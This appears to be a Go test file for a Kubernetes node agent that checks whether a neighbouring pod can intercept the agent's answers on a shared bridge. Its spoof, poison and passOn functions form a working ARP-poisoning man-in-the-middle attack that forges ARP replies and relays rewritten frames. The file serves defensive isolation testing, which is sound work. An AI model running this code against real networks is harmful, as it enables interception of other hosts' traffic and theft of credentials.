package kernel

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netns"
	"golang.org/x/sys/unix"

	"github.com/sidestep-agent/sidestep/test/lab"
)

const (
	nothingRead     = "nothing to read"
	readByNeighbour = "READ BY A NEIGHBOUR"
)

// spoofing has a pod say on its bridge that it is its neighbour, and to that
// one that it is the gateway, and pass on what it then gets.
type spoofing struct {
	Victim, Gateway       netip.Addr
	VictimMAC, GatewayMAC net.HardwareAddr
	Words                 string // counted are frames to the victim with these in them
	Begun, End            string // files
}

func init() { lab.Register("spoof", spoof) }

// neighbourReads has a pod with the default capabilities listen to what the
// agent answers to its neighbour on a bridge, with node delivery.
func neighbourReads(t *testing.T, isolated bool) string {
	n := newNode(t, options{nodeOnly: true, guard: guardSocket})
	victim, neighbour := n.pod(t, steer, lab.PodOptions{}), n.pod(t, pass, lab.PodOptions{})
	b := newBridge(t, victim, neighbour)
	for _, p := range []*lab.Pod{victim, neighbour} {
		port, err := netlink.LinkByIndex(p.NodeLink.Index)
		check(t, err)
		check(t, netlink.LinkSetIsolated(port, isolated))
	}
	// An answer that takes as long as a kernel believes no second answer to an
	// ARP request: where ports are isolated the handshake must be over before.
	n.beforeAnswer(func() { time.Sleep(1500 * time.Millisecond) })
	frames, answers := b.listen(t, victim, neighbour)
	switch {
	case frames > 0:
		return readByNeighbour
	case len(n.delivery.Exposed()) == 0:
		return "answered: " + answers
	}
	return nothingRead
}

// bridge connects pods of a lab in place of their point-to-point links.
type bridge struct {
	link      netlink.Link
	addresses map[*lab.Pod]netip.Addr
}

var bridgeGateway = netip.MustParseAddr("10.99.0.1")

func newBridge(t *testing.T, pods ...*lab.Pod) *bridge {
	t.Helper()
	b := &bridge{
		link:      &netlink.Bridge{LinkAttrs: netlink.LinkAttrs{Name: "cni0"}},
		addresses: make(map[*lab.Pod]netip.Addr),
	}
	check(t, netlink.LinkAdd(b.link))
	t.Cleanup(func() { check(t, netlink.LinkDel(b.link)) })
	check(t, netlink.AddrAdd(b.link, inSubnet(bridgeGateway)))
	check(t, netlink.LinkSetUp(b.link))
	next := bridgeGateway
	for _, p := range pods {
		next = next.Next()
		b.addresses[p] = next
		port, err := netlink.LinkByIndex(p.NodeLink.Index)
		check(t, err)
		check(t, netlink.LinkSetMaster(port, b.link))
		inPod(t, p, func(h *netlink.Handle, eth0 netlink.Link) {
			old, err := h.AddrList(eth0, netlink.FAMILY_V4)
			check(t, err)
			for _, a := range old {
				check(t, h.AddrDel(eth0, &a))
			}
			check(t, h.AddrAdd(eth0, inSubnet(next)))
			check(t, h.RouteAdd(&netlink.Route{Gw: bridgeGateway.AsSlice()}))
		})
	}
	return b
}

func inSubnet(a netip.Addr) *netlink.Addr {
	return &netlink.Addr{IPNet: &net.IPNet{IP: a.AsSlice(), Mask: net.CIDRMask(24, 32)}}
}

func inPod(t *testing.T, p *lab.Pod, do func(h *netlink.Handle, eth0 netlink.Link)) {
	t.Helper()
	ns, err := netns.GetFromPath(p.Netns())
	check(t, err)
	defer ns.Close()
	h, err := netlink.NewHandleAt(ns)
	check(t, err)
	defer h.Close()
	eth0, err := h.LinkByName("eth0")
	check(t, err)
	do(h, eth0)
}

// listen has the victim ask while its neighbour spoofs. It returns how many
// frames with the victim's answer the neighbour has read, and what the victim
// got.
func (b *bridge) listen(t *testing.T, victim, neighbour *lab.Pod) (frames int, answers string) {
	t.Helper()
	dir := t.TempDir()
	s := spoofing{
		Victim: b.addresses[victim], Gateway: bridgeGateway, Words: victim.UID,
		Begun: filepath.Join(dir, "begun"), End: filepath.Join(dir, "end"),
	}
	inPod(t, victim, func(_ *netlink.Handle, eth0 netlink.Link) { s.VictimMAC = eth0.Attrs().HardwareAddr })
	gateway, err := netlink.LinkByIndex(b.link.Attrs().Index)
	check(t, err)
	s.GatewayMAC = gateway.Attrs().HardwareAddr
	input, err := json.Marshal(s)
	check(t, err)
	cmd := exec.CommandContext(t.Context(), lab.Program()) // with the capabilities of its row
	cmd.Env = lab.TaskEnvironment("spoof")
	var stdout, stderr bytes.Buffer
	cmd.Stdin, cmd.Stdout, cmd.Stderr = bytes.NewReader(input), &stdout, &stderr
	check(t, neighbour.Start(cmd))
	eventually(t, "the neighbour spoofs", func() bool { return exists(s.Begun) })
	var all []string
	for range 4 {
		got, err := lab.Run[dialing, dialed](t.Context(), victim, "dial", dialing{To: imds, Impatient: true})
		if err != nil { // the answer was sent to the neighbour, who may not pass it on
			got.Answer.Err = err.Error()
		}
		all = append(all, got.Answer.UID+got.Answer.Err)
	}
	check(t, os.WriteFile(s.End, nil, 0o600))
	if err := cmd.Wait(); err != nil {
		t.Fatalf("%v: %s", err, stderr.Bytes())
	}
	check(t, json.Unmarshal(stdout.Bytes(), &frames))
	return frames, strings.Join(all, ", ")
}

func spoof(s spoofing) (frames int, err error) {
	w, err := openWire("eth0", nil, false)
	if err != nil {
		return 0, err
	}
	defer w.close()
	frame := make([]byte, 4096)
	poisoned := time.Time{}
	for deadline := time.Now().Add(time.Minute); !exists(s.End) && time.Now().Before(deadline); {
		if time.Since(poisoned) > 20*time.Millisecond {
			poisoned = time.Now()
			if err := w.poison(s); err != nil {
				return frames, err
			}
		}
		poll := []unix.PollFd{{Fd: int32(w.fd), Events: unix.POLLIN}}
		if n, err := unix.Poll(poll, 10); err != nil || n == 0 {
			continue
		}
		n, _, err := unix.Recvfrom(w.fd, frame, unix.MSG_DONTWAIT)
		if err != nil || n < 14+20 || !bytes.Equal(frame[:6], w.link.HardwareAddr) || frame[12] != 8 || frame[13] != 0 {
			continue
		}
		if s.passOn(w, frame[:n]) {
			frames++
		}
	}
	return frames, nil
}

// passOn sends a frame on to whom it was meant for. It reports whether the
// words are in it, for the victim to read.
func (s spoofing) passOn(w *wire, frame []byte) bool {
	from, to := netip.AddrFrom4([4]byte(frame[26:30])), netip.AddrFrom4([4]byte(frame[30:34]))
	switch {
	case to == s.Victim:
		copy(frame, s.VictimMAC)
	case from == s.Victim:
		copy(frame, s.GatewayMAC)
	default:
		return false
	}
	copy(frame[6:], w.link.HardwareAddr)
	completeTCP(frame[14:])
	_ = unix.Sendto(w.fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: w.link.Index, Halen: 6}) // the victim sends again
	return to == s.Victim && bytes.Contains(frame, []byte(s.Words))
}

// completeTCP computes the checksum that a sender on a virtual link leaves out.
func completeTCP(packet []byte) {
	header := int(packet[0]&15) * 4
	length := int(binary.BigEndian.Uint16(packet[2:]))
	if packet[9] != unix.IPPROTO_TCP || length > len(packet) || length < header+20 {
		return
	}
	tcp := packet[header:length]
	tcp[16], tcp[17] = 0, 0
	pseudo := append(append([]byte{}, packet[12:20]...), 0, unix.IPPROTO_TCP, byte(len(tcp)>>8), byte(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))
}

// poison tells the victim that this pod is the gateway, and the gateway that it
// is the victim.
func (w *wire) poison(s spoofing) error {
	if _, err := os.Stat(s.Begun); err != nil {
		if err := os.WriteFile(s.Begun, nil, 0o600); err != nil {
			return err
		}
	}
	for _, lie := range []struct {
		claimed, receiver netip.Addr
		receiverMAC       net.HardwareAddr
	}{{s.Gateway, s.Victim, s.VictimMAC}, {s.Victim, s.Gateway, s.GatewayMAC}} {
		for _, operation := range []uint16{1, 2} { // a request teaches as an answer does
			arp := append(append([]byte{}, lie.receiverMAC...), w.link.HardwareAddr...)
			arp = append(arp, 8, 6, 0, 1, 8, 0, 6, 4)
			arp = binary.BigEndian.AppendUint16(arp, operation)
			arp = append(append(arp, w.link.HardwareAddr...), lie.claimed.AsSlice()...)
			arp = append(append(arp, lie.receiverMAC...), lie.receiver.AsSlice()...)
			err := unix.Sendto(w.fd, arp, 0, &unix.SockaddrLinklayer{Ifindex: w.link.Index, Halen: 6})
			if err != nil {
				return err
			}
		}
	}
	return nil
}
